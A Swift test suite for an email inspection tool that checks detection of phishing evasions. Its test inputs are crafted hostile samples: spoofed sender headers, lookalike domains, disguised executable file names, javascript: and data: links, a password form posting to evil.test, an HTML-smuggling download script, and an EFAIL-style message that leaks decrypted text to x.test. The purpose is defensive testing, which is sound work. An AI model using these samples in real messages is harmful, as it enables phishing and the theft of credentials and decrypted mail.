import Content
import DNS
import Foundation
import Mail
import Testing

@testable import Checks
import Delivery
@testable import Inspection
import Phrases

/// Tricks with names, files and contents, row by row of the catalogue of evasions: what must be said of each.
struct ContentEvasionTests {
    private func report(_ message: String, protecting protected: [String] = []) -> Report {
        let text = message.replacing("\r\n", with: "\n").replacing("\n", with: "\r\n")
        return Report(
            Inspection(
                of: Message(Source(exactly: Array(text.utf8))), at: Example.time,
                protecting: protected.map { Domain($0) }))
    }

    private func ids(_ report: Report) -> Set<String> { Set(report.entries.map(\.about.id)) }

    private static func html(_ body: String) -> String {
        "From: <a@example.com>\nContent-Type: text/html; charset=utf-8\n\n\(body)\n"
    }

    private static func file(_ parameters: String, _ body: String = "x") -> String {
        "From: <a@example.com>\nMIME-Version: 1.0\nContent-Type: application/octet-stream\nContent-Disposition: attachment; \(parameters)\n\n\(body)\n"
    }

    /// Who a message says it is from.
    @Test(arguments: [
        ("From: <a@x.test>\nFrom: <b@bank.example>\n\n", "repeated-single-field"),
        (" From: <b@bank.example>\nFrom: <a@x.test>\n\n", "ambiguous-header"),
        ("From : <b@bank.example>\n\n", "ambiguous-header"),
        ("Sender: <b@bank.example>\n\n", "missing-required-field"),
        ("From: <a@x.test>, <b@bank.example>\n\n", "ambiguous-author"),
        ("From: =?utf-8?b?PGJAYmFuay5leGFtcGxlPg==?=,<a@x.test>\n\n", "ambiguous-author"),
        ("From: =?utf-8?q?ceo=40bank.example=00?=@x.test\n\n", "ambiguous-author"),
        ("From: <@x.test,@y.test:b@bank.example>\n\n", "ambiguous-author"),
        ("From: <a@x.test>b@bank.example\n\n", "ambiguous-author"),
        ("From: N <b@bank.example> <a@x.test>\n\n", "ambiguous-author"),
        ("From: a@x.test@bank.example\n\n", "ambiguous-author"),
        ("From: <a@xn--0049.example>\n\n", "malformed-punycode"),
        ("From: \"security@bank.example\" <x@x.test>\n\n", "address-in-display-name"),
        ("From: \"CEO\u{202E}\" <x@x.test>\n\n", "steering-characters"),
        ("From: <a@bank.example>\nReply-To: <a@gmail.com>\n\n", "reply-to-free-mail"),
        ("From: <a@bаnk.example>\nTo: <b@bank.example>\n\n", "lookalike-domain"),
        ("From: <a@bank-example.test.com>\nTo: <b@bank-example.com>\n\n", "cousin-domain"),
        ("From: <a@x.test>\nSubject: pa\u{200B}ss\u{200B}word\n\n", "steering-characters"),
        ("From: Cоurt <a@x.test>\n\n", "mixed-scripts"),
    ])
    func authors(_ message: String, _ check: String) {
        #expect(ids(report(message)).contains(check), "\(ids(report(message)))")
    }

    /// What honest services write.
    @Test(arguments: [
        "From: foo@foo.example- private <foo@foo.example>\n\n", "From: \"Bugzilla@Mozilla\" <bugzilla@example.com>\n\n",
        "From: \"a@x.example (Google Calendar)\" <calendar-notification@google.com>\n\n",
        "From: \"Ann via Talk\" <talk@lists.example>\nList-Id: <talk.lists.example>\n\n",
        "From: \"Ann (Jira)\" <jira@example.atlassian.net>\nTo: <b@example.com>\n\n",
    ])
    func honestNames(_ message: String) {
        let alarms: Set = ["address-in-display-name", "borrowed-name", "domain-in-display-name"]
        #expect(ids(report(message)).isDisjoint(with: alarms))
    }

    /// A Message-ID of another host is a note, one without anything after the "@" more.
    @Test func messageIDs() {
        #expect(
            report("From: <a@example.com>\nMessage-ID: <1@container>\n\n").entries.allSatisfy {
                $0.about.id != "malformed-message-id"
            })
        #expect(ids(report("From: <a@example.com>\nMessage-ID: <1@>\n\n")).contains("malformed-message-id"))
        let elsewhere = report("From: <a@example.com>\nMessage-ID: <1@mail.example.net>\n\n").entries.first {
            $0.about.id == "message-id-elsewhere"
        }
        #expect(elsewhere?.about.severity == .note)
    }

    /// Names of files.
    @Test(arguments: [
        ("filename=a.txt; filename*=utf-8''a.exe", "ambiguous-file-name"),
        ("filename*1=b.exe; filename*0=a", "program-attachment"),
        ("filename==?utf-8?q?a.exe?=", "program-attachment"),
        ("filename=\"invoice\u{202E}gpj.exe\"", "steered-file-name"),
        ("filename=\"invoice.pdf.exe\"", "double-extension"),
        ("filename=\"invoice.pdf                 .exe\"", "double-extension"),
        ("filename=\"a.exe. .\"", "program-attachment"), ("filename=\"a.EXE\"", "program-attachment"),
        ("filename=\"../../x\"", "path-in-file-name"), ("filename=\"C:\\\\x\"", "path-in-file-name"),
        ("filename=\"..%2fx\"", "path-in-file-name"), ("filename=\"CON\"", "path-in-file-name"),
        ("filename=a.iso", "program-attachment"), ("filename=a.lnk", "program-attachment"),
        ("filename=a.xll", "program-attachment"), ("filename=a.hta", "program-attachment"),
    ])
    func fileNames(_ parameters: String, _ check: String) {
        let found = ids(report(Self.file(parameters)))
        #expect(found.contains(check), "\(found)")
    }

    @Test(arguments: [
        (file("filename=a.pdf", "MZ\u{1}"), "attachment-type-mismatch"),
        (file("filename=a.pdf", "<html><script>x()</script>"), "script-in-message"),
        (
            "From: <a@example.com>\nContent-Type: image/svg+xml; name=a.svg\n\n<svg><script>x()</script></svg>\n",
            "script-in-message"
        ),
    ])
    func filesAreNotWhatTheySay(_ message: String, _ check: String) {
        let found = ids(report(message))
        #expect(found.contains(check), "\(found)")
    }

    /// HTML and links.
    @Test(arguments: [
        ("<a href=\"http://evil.test\">https://bank.example</a>", "link-text-elsewhere"),
        ("<a href=\"http://evil.test\">https://bank\u{200B}.example</a>", "link-text-elsewhere"),
        ("<base href=\"http://evil.test/\"><a href=\"login\">https://bank.example</a>", "link-text-elsewhere"),
        ("<a href=\"&#106;avascript:go()\">x</a>", "dangerous-link"),
        ("<a href=\"java\tscript:go()\">x</a>", "dangerous-link"),
        ("<a href=\"vbscript:x\">x</a>", "dangerous-link"), ("<a href=\"file://host/x\">x</a>", "dangerous-link"),
        ("<a href=\"data:text/html,x\">x</a>", "dangerous-link"),
        ("<a href=\"ms-word:ofe|u|x\">x</a>", "dangerous-link"),
        ("<a href=\"https://bank.example@evil.test/\">x</a>", "link-with-user-info"),
        ("<a href=\"http://good.test\\@evil.test\">x</a>", "disputed-host"),
        ("<a href=\"http://2130706433/\">x</a>", "link-to-address"),
        ("<a href=\"http://0x7f.1/\">x</a>", "link-to-address"),
        ("<a href=\"http://[::ffff:c633:6401]/\">x</a>", "link-to-address"),
        ("<a href=\"https://аррӏе.com/\">x</a>", "lookalike-link"),
        ("<a href=\"https://bit.ly/x\">x</a>", "shortened-link"),
        ("<a href=\"https://www.google.com/url?q=https://evil.test/\">https://bank.example</a>", "link-text-elsewhere"),
        (
            "<p>hi</p><p style=\"color:#fff;background:#fff\">words for filters that nobody ever sees at all</p>",
            "hidden-text"
        ),
        ("<p>hi</p><p style=\"opacity:0\">words for filters that nobody ever sees at all</p>", "hidden-text"),
        ("<p>hi</p><p style=\"text-indent:-9999px\">words for filters that nobody ever sees at all</p>", "hidden-text"),
        (
            "<p>hi</p><p style=\"max-height:0;overflow:hidden\">words for filters that nobody ever sees at all</p>",
            "hidden-text"
        ),
        (
            "<p>hi</p><p style=\"position:absolute;left:-999px\">words for filters that nobody ever sees at all</p>",
            "hidden-text"
        ),
        ("Pay<span style=\"font-size:0px\">x</span>Pal", "broken-up-words"),
        ("p&#8203;a&#8203;s&#8203;s&#8203;word", "broken-up-words"),
        ("<form action=\"https://evil.test/\"><input name=q></form>", "form-in-message"),
        ("<form action=\"mailto:x@evil.test\"><input name=q></form>", "form-in-message"),
        ("<form action=\"https://evil.test/\"><input type=password></form>", "password-in-form"),
        ("<img src=\"https://t.test/?u=1\" width=1 height=1>", "tracking-picture"),
        ("<script>var b=new Blob([atob('x')]);a.href=URL.createObjectURL(b);a.download='x'</script>", "html-smuggling"),
        ("<meta charset=utf-7>+ADw-script+AD4-", "other-charset-in-page"),
        ("<!--><a href=\"https://evil.test/\">x</a><!-- -->", "disputed-link"),
        ("<iframe srcdoc=\"<a href='https://bit.ly/x'>x</a>\"></iframe>", "shortened-link"),
    ])
    func pages(_ body: String, _ check: String) {
        let found = ids(report(Self.html(body)))
        #expect(found.contains(check), "\(found)")
    }

    /// Both forms of a host are told; one that no browser takes stands as it is written. rspamd issue 4007
    @Test func numericHostsAreShownAsWritten() throws {
        let found = report(Self.html("<a href=\"http://1.131844/\">x</a><a href=\"http://502.234/\">x</a>"))
        let message = try #require(found.entries.first { $0.about.id == "link-to-address" }?.finding.message)
        #expect(message.contains("1[.]2[.]3[.]4, written as 1[.]131844"))
        #expect(found.inspection.contents.links.last?.address?.host == "")
        #expect(found.inspection.contents.links.last?.target.value == "http://502.234/")
    }

    private static func event(_ property: String) -> String {
        "From: <a@example.com>\nContent-Type: text/calendar; charset=utf-8\n\nBEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\n\(property)\nEND:VEVENT\nEND:VCALENDAR\n"
    }

    /// Links in calendars and cards, however their lines are folded.
    @Test(arguments: [
        ("URL:https://evil.test/x", "https://evil.test/x"),
        ("LOCATION:room\\, https://evil.test/y\\nmore", "https://evil.test/y"),
        ("DESCRIPTION:see https://evil.t\n est/folded", "https://evil.test/folded"),
        ("ATTACH;FMTTYPE=text/html:https://evil.test/a", "https://evil.test/a"),
        ("X-ALT-DESC;FMTTYPE=text/html:<a href=\"https://evil.test/h\">x</a>", "https://evil.test/h"),
        ("SUMMARY;ALTREP=\"https://evil.test/r\":x", "https://evil.test/r"),
    ])
    func calendars(_ property: String, _ target: String) throws {
        let found = report(Self.event(property)).inspection
        let link = try #require(
            found.contents.links.first { $0.target.value == target }, "\(found.contents.links.map(\.target.value))")
        let shown = String(decoding: found.message.source.bytes[link.target.range], as: UTF8.self)
        #expect(shown.contains("evil.t"))
    }

    @Test func organizers() {
        #expect(ids(report(Self.event("ORGANIZER;CN=Boss:mailto:boss@example.net"))).contains("organizer-elsewhere"))
        #expect(!ids(report(Self.event("ORGANIZER:mailto:boss@example.com"))).contains("organizer-elsewhere"))
        let card =
            "From: <a@example.com>\nContent-Type: text/vcard\n\nBEGIN:VCARD\nURL:https://evil.test/\nPHOTO;VALUE=uri:https://evil.test/p\nEND:VCARD\n"
        #expect(
            report(card).inspection.contents.links.map(\.target.value) == ["https://evil.test/", "https://evil.test/p"])
    }

    /// Tags that take what is decrypted into an address. efail.de
    @Test func directExfiltration() {
        let parts =
            "From: <a@example.com>\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src=\"http://x.test/\n--b\nContent-Type: application/pkcs7-mime\n\nMIAG\n--b\nContent-Type: text/html\n\n\">\n--b--\n"
        #expect(ids(report(parts)).contains("encrypted-beside-page"))
    }

    /// Domains that the user names.
    @Test(arguments: [
        ("From: <a@contoso.net>\n\n", "cousin-domain"), ("From: <a@contosobank.com>\n\n", "cousin-domain"),
        ("From: Contoso <a@example.net>\n\n", "borrowed-name"), ("From: <a@cont0so.com>\n\n", "cousin-domain"),
        (
            "From: <a@example.net>\nContent-Type: text/html\n\n<a href=\"https://contoso.com.evil.test/\">x</a>\n",
            "cousin-link"
        ),
    ])
    func protectedDomains(_ message: String, _ check: String) {
        #expect(ids(report(message, protecting: ["contoso.com"])).contains(check))
        #expect(!ids(report(message)).contains(check))
        #expect(
            ids(report("From: Contoso <a@mail.contoso.com>\n\n", protecting: ["contoso.com"])).isDisjoint(with: [
                "cousin-domain", "borrowed-name", "lookalike-domain",
            ]))
    }
}
